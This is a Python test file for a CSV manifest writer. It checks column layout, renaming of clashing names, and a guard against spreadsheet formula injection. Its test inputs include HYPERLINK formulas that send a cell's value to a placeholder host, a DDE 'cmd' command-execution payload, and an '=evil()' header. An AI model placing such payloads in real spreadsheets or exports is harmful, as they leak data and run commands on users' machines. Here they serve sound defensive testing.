"""manifest.csv: columns, name clashes, formula injection."""

import csv
import io
import itertools
import re
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from darkroom.errors import Reason
from darkroom.report.manifest import (
    OWN_COLUMNS,
    ManifestFormat,
    guard,
    header,
    own_columns,
    unguard,
)
from darkroom.report.rows import ReportRow
from darkroom.rows import RowState
from tests.fakes.reporting import report_row

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def manifest_of(*rows: ReportRow, columns: tuple[str, ...] = ()) -> list[dict[str, str]]:
    manifest = ManifestFormat(columns)
    text = manifest.header() + b"".join(manifest.line(row) for row in rows)
    return list(csv.DictReader(io.StringIO(text.decode(), newline="")))


def test_the_columns_are_the_contract() -> None:
    assert header(("image_url", "sku")) == (
        *("image_url", "sku", "row", "status", "reason", "detail", "output", "provider"),
        *("endpoint", "model", "fallback", "attempts", "latency_ms", "cost_usd"),
        *("possible_duplicate_charges", "mode"),
    )


def test_a_succeeded_row_names_its_images_and_the_call_that_made_them() -> None:
    call: dict[str, Any] = {
        "provider": "openai",
        "endpoint": "openai-main",
        "model": "gpt-image-1.5",
    }
    row = report_row(
        7,
        cells=("a.jpg",),
        outputs=("jobs/p/images/a.png", "jobs/p/images/a-1.png"),
        **call,
        fallback=True,
        attempts=2,
        latency_ms=8123,
        cost_micro_usd=39_000,
        possible_duplicate_charges=1,
    )
    assert manifest_of(row, columns=("image_url",)) == [
        call
        | {"image_url": "a.jpg", "row": "7", "status": "succeeded", "reason": "", "detail": ""}
        | {"output": "jobs/p/images/a.png|jobs/p/images/a-1.png", "fallback": "true"}
        | {"attempts": "2", "latency_ms": "8123", "cost_usd": "0.039000"}
        | {"possible_duplicate_charges": "1", "mode": "live"}
    ]


def test_the_mode_is_that_of_the_call_or_batch_and_empty_without_one() -> None:
    batch = report_row(endpoint="g", mode="batch")
    refused = report_row(status=RowState.FAILED, reason=Reason.REFUSED, endpoint="g", mode="batch")
    bad_input = report_row(status=RowState.FAILED, reason=Reason.BAD_INPUT)
    assert [line["mode"] for line in manifest_of(batch, refused, bad_input)] == [
        *("batch", "batch", ""),
    ]


def test_a_manifest_of_an_earlier_version_lacks_the_newest_columns() -> None:
    names = header(("image_url", "row"))
    assert own_columns(names) == OWN_COLUMNS
    assert own_columns(names[:-1]) == OWN_COLUMNS[:-1]


def test_an_unknown_cost_is_empty_and_no_cost_is_zero() -> None:
    lines = manifest_of(*(report_row(cost_micro_usd=cost) for cost in (None, 0, 1)))
    assert [line["cost_usd"] for line in lines] == ["", "0.000000", "0.000001"]


def test_input_columns_named_like_ours_are_renamed() -> None:
    names = header(("status", "row", "input_status", "Status"))
    assert names[:4] == ("input_status_2", "input_row", "input_status", "Status")
    assert names[4:] == OWN_COLUMNS


def test_a_manifest_used_as_input_keeps_every_value() -> None:
    first = header(("sku",))
    again = header(first)
    assert len(set(again)) == len(again)
    assert again[0] == "sku"


@pytest.mark.parametrize(
    "cell",
    [
        *(f'{start}HYPERLINK("http://x.test?"&A1)' for start in FORMULA_STARTS),
        *("-5+A1", "+49 171 1234", "-", "=5", "-٣", "--1", "@5", "+"),
    ],
)
def test_cells_that_a_spreadsheet_would_run_become_text(cell: str) -> None:
    assert guard(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell",
    [
        *("-5", "+1", "-5.25", "-1,000.50", "+1e-7", "-12%", "-.5"),
        *("", "plain", "a=b", "5-3", "'quoted'", " =no", "'"),
    ],
)
def test_plain_numbers_and_harmless_cells_are_untouched(cell: str) -> None:
    assert guard(cell) == cell


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("red;=HYPERLINK(A1)", "red;'=HYPERLINK(A1)"),
        ("red;;@x", "red;;'@x"),
        ("red\t+1+1", "red\t'+1+1"),
        ("two\n=lines", "two\n'=lines"),
        ("red;'=x", "red;''=x"),
        (";=x", ";'=x"),
        ("=a;=b", "'=a;'=b"),
        ("size -1;-2;+3,5;-4%", "size -1;-2;+3,5;-4%"),
        ("a; = b", "a; = b"),
    ],
)
def test_where_semicolons_or_tabs_separate_cells_no_formula_begins(
    cell: str, expected: str
) -> None:
    assert guard(cell) == expected
    assert unguard(expected) == cell


@given(st.text(alphabet=st.sampled_from("=-@';\t\n1a"), max_size=8))
def test_no_cell_begins_a_formula_whatever_separates_cells(cell: str) -> None:
    for part in re.split(r"[;\t\n]", guard(cell)):
        assert not part.startswith(("=", "@", "-")) or part.removeprefix("-").isdecimal()


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n1a.; \uff1d"), max_size=8))
def test_the_guard_can_be_undone(cell: str) -> None:
    assert unguard(guard(cell)) == cell


def assert_number_or_no_formula(guarded: str) -> None:
    if guarded.startswith(FORMULA_STARTS):
        assert Decimal(re.sub("[.,]", "", guarded.removesuffix("%"))).is_finite()


@given(st.sampled_from(FORMULA_STARTS), st.text(st.characters(codec="utf-8"), max_size=20))
def test_no_guarded_cell_starts_like_a_formula_unless_it_is_a_number(start: str, end: str) -> None:
    assert_number_or_no_formula(guard(start + end))


def test_no_formula_of_five_characters_is_taken_for_a_number() -> None:
    for characters in itertools.product("+-", *["1.,e+-%"] * 4):
        assert_number_or_no_formula(guard("".join(characters)))


# NUL is not text. Everything else, line breaks included, can be restored.
@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=20)))
def test_every_cell_of_the_input_can_be_restored(cells: list[str]) -> None:
    columns = tuple(f"c{i}" for i in range(len(cells)))
    (line,) = manifest_of(report_row(cells=tuple(cells)), columns=columns)
    assert [unguard(line[c]) for c in columns] == cells


def test_headers_and_details_are_guarded_too() -> None:
    row = report_row(0, RowState.FAILED, cells=("x",), detail="=cmd|' /C'!A0")
    manifest = ManifestFormat(("=evil()",))
    assert manifest.header().startswith(b"'=evil(),row,")
    assert b",'=cmd|' /C'!A0," in manifest.line(row)


def test_a_detail_stays_on_one_line() -> None:
    row = report_row(0, RowState.FAILED, detail="two\nlines\r\n here")
    assert manifest_of(row)[0]["detail"] == "two lines here"


def test_short_rows_are_padded_and_long_ones_do_not_shift_our_columns() -> None:
    rows = report_row(0, cells=("a",)), report_row(1, cells=("a", "b", "c"))
    lines = manifest_of(*rows, columns=("x", "y"))
    cells = [(line["x"], line["y"], line["row"]) for line in lines]
    assert cells == [("a", "", "0"), ("a", "b", "1")]


def test_a_job_with_one_instruction_shows_it_as_it_was_sent() -> None:
    manifest = ManifestFormat(("image_url", "name"), instructions=True)
    row = report_row(0, cells=("a.png", "mug"), instruction="Paint the mug red")
    names, cells = csv.reader([manifest.header().decode(), manifest.line(row).decode()])
    line = dict(zip(names, cells, strict=True))
    assert line["instruction_sent"] == "Paint the mug red"
    assert tuple(names[3:]) == OWN_COLUMNS
